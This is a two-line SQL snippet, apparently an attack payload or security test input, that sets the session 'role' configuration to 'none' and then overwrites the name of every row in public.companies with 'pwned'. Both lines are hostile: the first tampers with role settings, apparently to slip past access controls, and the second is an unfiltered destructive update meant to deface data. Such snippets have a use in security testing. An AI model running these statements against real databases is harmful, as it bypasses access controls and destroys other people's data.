SELECT "set_config"('role', 'none', true);
UPDATE public.companies SET name = 'pwned';
